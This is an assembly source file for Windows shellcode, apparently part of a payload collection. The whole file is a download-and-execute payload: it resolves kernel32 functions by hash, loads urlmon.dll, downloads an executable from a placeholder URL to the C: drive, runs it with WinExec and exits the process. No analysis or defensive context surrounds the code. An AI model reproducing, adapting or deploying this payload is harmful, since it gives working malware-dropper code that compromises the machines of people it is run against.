# Asks urlmon to download a file of the range, runs it, ends the process.
.include "common.inc"
start:
  find_kernel32
  jmp data
begin:
  pop edi                     # the texts
  push edi
  call_by_hash LoadLibraryA
  push ebx
  mov ebx, eax
  push 0
  push 0
  lea eax, [edi + file - texts]
  push eax
  lea eax, [edi + url - texts]
  push eax
  push 0
  call_by_hash URLDownloadToFileA
  pop ebx
  push 0
  lea eax, [edi + file - texts]
  push eax
  call_by_hash WinExec
  push 0
  call_by_hash ExitProcess
find_function_code
data:
  call begin
texts:
  .asciz "urlmon.dll"
url:
  .asciz "http://files.example/specimen.exe"
file:
  .asciz "C:\\specimen.exe"
